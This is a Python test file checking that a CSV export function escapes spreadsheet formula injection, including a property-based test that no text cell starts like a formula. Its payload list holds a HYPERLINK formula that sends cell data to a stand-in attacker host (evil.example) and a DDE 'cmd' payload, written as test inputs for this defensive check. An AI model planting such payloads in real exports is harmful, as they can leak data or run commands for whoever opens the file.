"""CSV exports neutralise formula injection (OWASP): a text cell never starts like a formula."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from zhizao.reports.csvout import FORMULA_STARTS, neutralise, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_reviews_payloads_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    write_csv(out, ["企业名称", "=bad header"], [[h, 1] for h in HOSTILE])
    rows = _read(out)
    assert rows[0] == ["企业名称", "'=bad header"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    assert neutralise(-1.5) == -1.5
    assert neutralise(-3) == -3
    assert neutralise("湖州甲家具有限公司") == "湖州甲家具有限公司"
    assert neutralise("A-1") == "A-1"
    assert neutralise(None) is None


@given(st.text())
def test_no_written_text_cell_starts_like_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe == text or safe == "'" + text
